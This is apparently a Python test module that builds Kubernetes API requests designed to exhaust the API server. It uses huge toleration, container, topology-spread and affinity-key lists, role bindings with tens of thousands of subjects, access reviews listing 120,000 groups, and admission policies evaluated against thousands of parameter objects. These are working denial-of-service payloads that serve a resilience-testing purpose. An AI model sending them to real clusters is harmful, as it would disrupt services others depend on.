"""Objects whose work grows faster than they do: by the product of two, or by what very short values become."""

from __future__ import annotations

import asyncio
from itertools import count
from typing import Any, Final

from tests.attacks.extensions import policies, writing_maps
from tests.attacks.floods import (
    CONFIG_MAPS,
    JSON,
    PODS,
    Flood,
    Run,
    Socket,
    encoded,
    repeated,
    together,
)
from tests.attacks.manifests import Manifest, collection, collection_of, config_map

NAMESPACE: Final = "products"
HOME: Final = f"/api/v1/namespaces/{NAMESPACE}"
RBAC: Final = "rbac.authorization.k8s.io"


def _named(name: str, **fields: Any) -> Manifest:
    return {"metadata": {"name": name}, **fields}


def _pod(containers: list[Any] | None = None, **spec: Any) -> bytes:
    some = [{"name": "c", "image": "i"}] if containers is None else containers
    return encoded(_named("product", spec={"containers": some, **spec}))


def _containers(number: int) -> list[Any]:
    return [{"name": f"c{index}", "image": "i"} for index in range(number)]


def _tolerations(number: int, prefix: str) -> list[Any]:
    return [{"key": f"{prefix}{index}", "operator": "Exists"} for index in range(number)]


def _spread(number: int) -> list[Any]:
    rule = {"maxSkew": 1, "whenUnsatisfiable": "DoNotSchedule", "labelSelector": {}}
    return [{"topologyKey": f"k{index}", **rule} for index in range(number)]


def _keys(number: int) -> dict[str, Any]:
    keys = {
        "matchLabelKeys": [f"a{index}" for index in range(number)],
        "mismatchLabelKeys": [f"b{index}" for index in range(number)],
    }
    term = {"topologyKey": "a", "labelSelector": {}, **keys}
    return {"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [term]}}


def _before() -> list[tuple[str, Manifest]]:
    """A namespace whose limits and quotas make much work of each pod, and a class of pods that does."""
    limits = {f"example.com/{index}": "1" for index in range(1_000)}
    item = {"type": "Container", "default": limits, "defaultRequest": limits}
    scopes = [{"scopeName": "BestEffort", "operator": "Exists"}] * 5_000
    hard = {"hard": {"pods": "1000"}, "scopeSelector": {"matchExpressions": scopes}}
    tolerated = {"tolerations": _tolerations(10_000, "b")}
    return [
        ("/api/v1/namespaces", _named(NAMESPACE)),
        (f"{HOME}/limitranges", _named("bomb", spec={"limits": [item]})),
        (f"{HOME}/resourcequotas", _named("bomb", spec=hard)),
        (
            "/apis/node.k8s.io/v1/runtimeclasses",
            _named("bomb", handler="bomb", scheduling=tolerated),
        ),
    ]


def pods() -> Run:
    """Pods that are short, and much work together with other objects or with themselves."""
    dry = f"{PODS}?dryRun=All"
    flood_pods = repeated(
        ("POST", dry, lambda: _pod([{}] * 10_000), JSON),
        ("POST", f"{HOME}/pods?dryRun=All", lambda: _pod(_containers(700)), JSON),
        (
            "POST",
            dry,
            lambda: _pod(runtimeClassName="bomb", tolerations=_tolerations(10_000, "a")),
            JSON,
        ),
        ("POST", dry, lambda: _pod(topologySpreadConstraints=_spread(15_000)), JSON),
        ("POST", dry, lambda: _pod(affinity=_keys(50_000)), JSON),
    )

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            for path, manifest in _before():
                await client.ask("POST", path, encoded(manifest))
        await flood_pods(flood)

    return run


def subjects(number: int = 30_000) -> Run:
    """A binding with very many subjects, which changes again and again, and reviews for users in very many groups."""
    path = collection("RoleBinding")
    role = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "view"}
    listed = [{"apiGroup": RBAC, "kind": "User", "name": f"u{index}"} for index in range(number)]
    bound = _named("bomb", roleRef=role, subjects=listed)
    attributes = {"verb": "get", "resource": "pods", "namespace": "default"}
    groups = [f"g{index}" for index in range(4 * number)]
    review = {"spec": {"user": "u", "groups": groups, "resourceAttributes": attributes}}
    reviews = "/apis/authorization.k8s.io/v1/subjectaccessreviews"

    async def run(flood: Flood) -> None:
        async def change() -> None:
            async with Socket(flood) as client:
                await client.ask("POST", path, encoded(bound))
                for turn in count():
                    listed[0]["name"] = f"turn{turn}"
                    await client.ask("PUT", f"{path}/bomb", encoded(bound))

        async def ask() -> None:
            async with Socket(flood) as client:
                while True:
                    await client.ask("POST", reviews, encoded(review))

        await together(flood, (change(), ask()))

    return run


def short_names(number: int = 30_000) -> list[Manifest]:
    """A definition with very many names."""
    names = {"plural": "bombs", "kind": "Bomb", "singular": "bomb", "listKind": "BombList"}
    schema = {"openAPIV3Schema": {"type": "object"}}
    version = {"name": "v1", "served": True, "storage": True, "schema": schema}
    return [
        {
            "apiVersion": "apiextensions.k8s.io/v1",
            "kind": "CustomResourceDefinition",
            "metadata": {"name": "bombs.example.com"},
            "spec": {
                "group": "example.com",
                "scope": "Namespaced",
                "names": {**names, "shortNames": [f"s{index}" for index in range(number)]},
                "versions": [version],
            },
        }
    ]


def selected(objects: int = 12, values: int = 60_000) -> Run:
    """Lists and watches with selectors over objects of which only a few are kept decoded."""
    data = {f"k{index}": "v" * 8 for index in range(values)}

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            for number in range(objects):
                made = config_map(f"selected-{number}", data)
                made["metadata"]["labels"] = {"a": "b"}
                await client.ask("POST", CONFIG_MAPS, encoded(made))

        async def ask() -> None:
            async with Socket(flood) as client:
                while True:
                    await client.ask("GET", f"{CONFIG_MAPS}?labelSelector=a=c")
                    await asyncio.sleep(0.05)

        async def watch() -> None:
            while True:
                async with Socket(flood) as client:
                    query = "watch=true&timeoutSeconds=1&labelSelector=a=c"
                    await client.send(client.head("GET", f"{CONFIG_MAPS}?{query}", 0))
                    await client.answer()

        await together(flood, (ask(), ask(), watch()))

    return run


def params(number: int = 2_000) -> Run:
    """A policy that is evaluated with every one of very many objects, for each write of another one."""
    (policy, binding), write = policies(1), writing_maps(10)
    policy["spec"] |= {
        "paramKind": {"apiVersion": "v1", "kind": "ConfigMap"},
        "validations": [{"expression": "params.data.size() > object.data.size() || true"}],
    }
    chosen = {"selector": {"matchLabels": {"a": "b"}}, "parameterNotFoundAction": "Allow"}
    binding["spec"]["paramRef"] = chosen

    async def run(flood: Flood) -> None:
        async with Socket(flood) as client:
            for index in range(number):
                made = config_map(f"param-{index}", {"k": "v"})
                made["metadata"]["labels"] = {"a": "b"}
                await client.ask("POST", CONFIG_MAPS, encoded(made))
            for manifest in (policy, binding):
                await client.ask("POST", collection_of(manifest), encoded(manifest))
        await write(flood)

    return run
